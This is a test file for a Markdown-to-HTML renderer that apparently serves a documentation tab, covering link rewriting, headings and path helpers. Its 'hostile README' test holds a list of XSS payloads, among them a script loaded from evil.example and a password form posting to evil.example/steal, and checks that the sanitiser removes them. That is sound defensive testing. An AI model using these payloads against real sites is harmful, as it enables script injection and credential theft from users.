import type { Element, Root } from "hast";
import rehypeRaw from "rehype-raw";
import { unified } from "unified";
import { visit } from "unist-util-visit";
import { describe, expect, it } from "vitest";
import { imageContentType, joinPath, renderMarkdown, toPagePath, type RenderContext } from "@/lib/docs/render";

const ctx = (overrides: Partial<RenderContext> = {}): RenderContext => ({
  pagePath: "guides/deploy",
  sourcePath: "guides/deploy.md",
  pageHref: (page) => `/catalog/component/default/checkout?tab=docs&path=${encodeURIComponent(page)}`,
  assetHref: (asset) => `/api/docs/assets/e1/${asset}`,
  pages: new Set(["index", "guides/deploy", "guides/rollback", "guides"]),
  assets: new Set(["img/arch.png", "guides/diagram.svg"]),
  ...overrides,
});

/** Parses rendered HTML the way a browser would, into elements with their attributes. */
function parseHtml(html: string): Element[] {
  const tree = unified()
    .use(rehypeRaw)
    .runSync({ type: "root", children: [{ type: "raw", value: html }] } as unknown as Root) as Root;
  const elements: Element[] = [];
  visit(tree, "element", (node: Element) => {
    elements.push(node);
  });
  return elements;
}

const attr = (elements: Element[], tag: string, name: string) =>
  elements.filter((e) => e.tagName === tag).map((e) => (e.properties[name] === undefined ? undefined : String(e.properties[name])));

describe("renderMarkdown", () => {
  it("rewrites links to pages (with anchors), the docs index, images, and leaves external links alone but safe", () => {
    const page = renderMarkdown(
      [
        "# Deploying",
        "",
        "[rollback](rollback.md#before-you-start) · [home](../index.md) · [readme](../README.md) · [guides](./) · [same page](#steps)",
        "[gone](missing.md) · [site](https://example.com/x) · [mail](mailto:team@example.com) · [source](../../src/app.ts)",
        "",
        "![architecture](../img/arch.png) ![diagram](diagram.svg \"Diagram\") ![absent](nope.png) ![badge](https://img.shields.io/b.svg)",
        "",
        "## Steps",
      ].join("\n"),
      ctx({ fileHref: (p) => `https://github.com/acme/checkout/blob/main/docs/${p}` }),
    );
    const elements = parseHtml(page.html);
    expect(attr(elements, "a", "href")).toEqual([
      "#user-content-deploying",
      "/catalog/component/default/checkout?tab=docs&path=guides%2Frollback#user-content-before-you-start",
      "/catalog/component/default/checkout?tab=docs&path=index",
      "/catalog/component/default/checkout?tab=docs&path=index",
      "/catalog/component/default/checkout?tab=docs&path=guides",
      "#user-content-steps",
      // A missing page still goes to the docs tab, which says "page not found".
      "/catalog/component/default/checkout?tab=docs&path=guides%2Fmissing",
      "https://example.com/x",
      "mailto:team@example.com",
      "https://github.com/acme/checkout/blob/main/docs/../src/app.ts",
      "#user-content-steps",
    ]);
    const external = elements.find((e) => e.tagName === "a" && e.properties.href === "https://example.com/x")!;
    expect(external.properties.rel).toEqual(["noopener", "noreferrer"]);
    expect(attr(elements, "img", "src")).toEqual(["/api/docs/assets/e1/img/arch.png", "/api/docs/assets/e1/guides/diagram.svg", undefined, "https://img.shields.io/b.svg"]);
    expect(attr(elements, "img", "alt")).toEqual(["architecture", "diagram", "absent", "badge"]);
  });

  it("drops the href of a relative link to a non-doc file when there is nowhere to send it", () => {
    const elements = parseHtml(renderMarkdown("[code](../src/app.ts)", ctx()).html);
    expect(elements.find((e) => e.tagName === "a")?.properties.href).toBeUndefined();
  });

  it("gives headings ids and anchor links, and collects title, h1–h3 and plain text", () => {
    const page = renderMarkdown("# Deploy *fast*\n\nIntro text.\n\n## Step one\n\n### Detail\n\n#### Too deep\n\n## Step one\n", ctx());
    expect(page.title).toBe("Deploy fast");
    expect(page.headings).toEqual([
      { depth: 1, id: "user-content-deploy-fast", text: "Deploy fast" },
      { depth: 2, id: "user-content-step-one", text: "Step one" },
      { depth: 3, id: "user-content-detail", text: "Detail" },
      { depth: 2, id: "user-content-step-one-1", text: "Step one" },
    ]);
    expect(page.html).toContain('<h2 id="user-content-step-one">Step one<a href="#user-content-step-one" class="heading-anchor" aria-label="Link to this section">#</a></h2>');
    expect(page.text).toBe("Deploy fast Intro text. Step one Detail Too deep Step one");
  });

  it("prefixes heading ids so they cannot take the page's own ids, and points authors' fragment links at them", () => {
    // The Docs tab itself has an element with id="docs-toc-heading".
    const page = renderMarkdown(
      [
        "# Docs toc heading",
        "",
        "## Some heading",
        "",
        "[here](#some-heading) · [there](rollback.md#some-heading) · [already](rollback.md#user-content-x) · [encoded](#some%2Dheading)",
        '<a name="old-anchor"></a> [old](#old-anchor) · [nowhere](#no-such-heading)',
      ].join("\n"),
      ctx(),
    );
    const elements = parseHtml(page.html);
    const ids = elements.map((e) => e.properties.id).filter((id) => id !== undefined);
    expect(ids).toEqual(["user-content-docs-toc-heading", "user-content-some-heading"]);
    expect(page.headings.map((h) => h.id)).toEqual(["user-content-docs-toc-heading", "user-content-some-heading"]);
    expect(attr(elements, "a", "href")).toEqual([
      "#user-content-docs-toc-heading",
      "#user-content-some-heading",
      "#user-content-some-heading",
      "/catalog/component/default/checkout?tab=docs&path=guides%2Frollback#user-content-some-heading",
      "/catalog/component/default/checkout?tab=docs&path=guides%2Frollback#user-content-x",
      "#user-content-some-heading",
      undefined,
      "#user-content-old-anchor",
      "#no-such-heading",
    ]);
    expect(attr(elements, "a", "name")).toContain("user-content-old-anchor");
  });

  it("titles a page without an h1 by its file name", () => {
    expect(renderMarkdown("Just text.", ctx({ sourcePath: "guides/deploy.md" })).title).toBe("deploy");
  });

  it("highlights code by language and turns mermaid blocks into escaped <pre class=\"mermaid\">", () => {
    const page = renderMarkdown("```ts\nconst answer: number = 42;\n```\n\n```mermaid\ngraph TD; A-->B; B-->C<script>alert(1)</script>\n```\n", ctx());
    expect(page.html).toContain('<code class="hljs language-ts"><span class="hljs-keyword">const</span>');
    expect(page.html).toContain('<pre class="mermaid">graph TD; A-->B; B-->C&#x3C;script>alert(1)&#x3C;/script>\n</pre>');
    const elements = parseHtml(page.html);
    expect(elements.some((e) => e.tagName === "script")).toBe(false);
    expect(page.text).toContain("graph TD;");
  });

  it("keeps GitHub-flavoured Markdown: tables, task lists, footnotes that link both ways", () => {
    const page = renderMarkdown("| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\nSee note.[^n]\n\n[^n]: The note.\n", ctx());
    const elements = parseHtml(page.html);
    expect(elements.some((e) => e.tagName === "table")).toBe(true);
    expect(elements.find((e) => e.tagName === "input")?.properties).toMatchObject({ type: "checkbox", disabled: true, checked: true });
    const ref = elements.find((e) => e.tagName === "a" && e.properties.dataFootnoteRef !== undefined)!;
    const target = String(ref.properties.href).slice(1);
    expect(elements.some((e) => e.properties.id === target)).toBe(true);
    // The screen-reader heading of the footnotes is not part of the outline.
    expect(page.headings).toEqual([]);
  });

  it("makes a hostile README inert", () => {
    const hostile = [
      "# Totally normal docs",
      "<script>alert('script')</script>",
      "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
      '<img src=x onerror="alert(1)">',
      '<img src="javascript:alert(2)">',
      '<a href="javascript:alert(3)">a</a> <a href="JaVaScRiPt:alert(4)">b</a> <a href="&#106;avascript:alert(5)">c</a>',
      '<a href="java&#x09;script:alert(6)">d</a> <a href=" javascript:alert(7)">e</a> <a href="jav&#x0A;ascript:alert(8)">f</a>',
      "[md link](javascript:alert(9)) [md link 2](JAVASCRIPT:alert(10)) [md link 3](<javascript:alert(11)>)",
      "![md image](javascript:alert(12))",
      '<iframe src="https://evil.example"></iframe>',
      '<svg onload="alert(13)"><circle r="1"/></svg>',
      "<svg><script>alert(14)</script></svg>",
      '<form action="https://evil.example/steal"><input name="password" type="password"><button>Go</button></form>',
      "<style>body { display: none }</style>",
      '<object data="https://evil.example/x.swf"></object>',
      '<embed src="https://evil.example/x.swf">',
      '<meta http-equiv="refresh" content="0; url=https://evil.example">',
      '<a href="data:text/html,<script>alert(15)</script>">data</a>',
      '<div style="background:url(javascript:alert(16))" onclick="alert(17)" onmouseover="alert(18)">hover</div>',
      '<details open ontoggle="alert(19)"><summary>x</summary></details>',
      '<a href="vbscript:msgbox(20)">vb</a> <base href="https://evil.example/">',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(21)>',
    ].join("\n\n");
    const page = renderMarkdown(hostile, ctx());
    const elements = parseHtml(page.html);

    const forbidden = ["script", "iframe", "object", "embed", "form", "meta", "style", "base", "svg", "math", "button", "link"];
    for (const tag of forbidden) {
      expect(elements.filter((e) => e.tagName === tag).map((e) => e.tagName), tag).toEqual([]);
    }
    // As on GitHub, the only input that survives is a disabled checkbox (task lists).
    for (const input of elements.filter((e) => e.tagName === "input")) expect(input.properties).toMatchObject({ type: "checkbox", disabled: true });
    for (const element of elements) {
      for (const [name, value] of Object.entries(element.properties)) {
        expect(name, `${element.tagName} has ${name}`).not.toMatch(/^on/i);
        expect(name, `${element.tagName} has ${name}`).not.toBe("style");
        const text = Array.isArray(value) ? value.join(" ") : String(value);
        expect(text.replace(/[\s\u0000-\u001f]/g, ""), `${element.tagName}.${name}`).not.toMatch(/^(javascript|vbscript|data):/i);
      }
    }
    expect(page.html).not.toMatch(/javascript:|vbscript:|data:text/i);
    // Stripped, not shown as text either.
    expect(page.text).not.toContain("display: none");
    expect(page.title).toBe("Totally normal docs");
  });
});

describe("page paths and helpers", () => {
  it("maps files to page paths: no extension, index and README stand for their folder", () => {
    expect(toPagePath("index.md")).toBe("index");
    expect(toPagePath("README.md")).toBe("index");
    expect(toPagePath("guides/index.md")).toBe("guides");
    expect(toPagePath("guides/README.markdown")).toBe("guides");
    expect(toPagePath("guides/deploy.md")).toBe("guides/deploy");
  });

  it("joins paths, keeping a climb above the start visible", () => {
    expect(joinPath("docs", "./a/../b.md")).toBe("docs/b.md");
    expect(joinPath("docs", "../../x")).toBe("../x");
    expect(joinPath("", ".")).toBe("");
  });

  it("knows the image types the docs serve", () => {
    expect(imageContentType("a/b.PNG")).toBe("image/png");
    expect(imageContentType("x.svg")).toBe("image/svg+xml");
    expect(imageContentType("x.pdf")).toBeUndefined();
    expect(imageContentType("constructor")).toBeUndefined();
  });
});
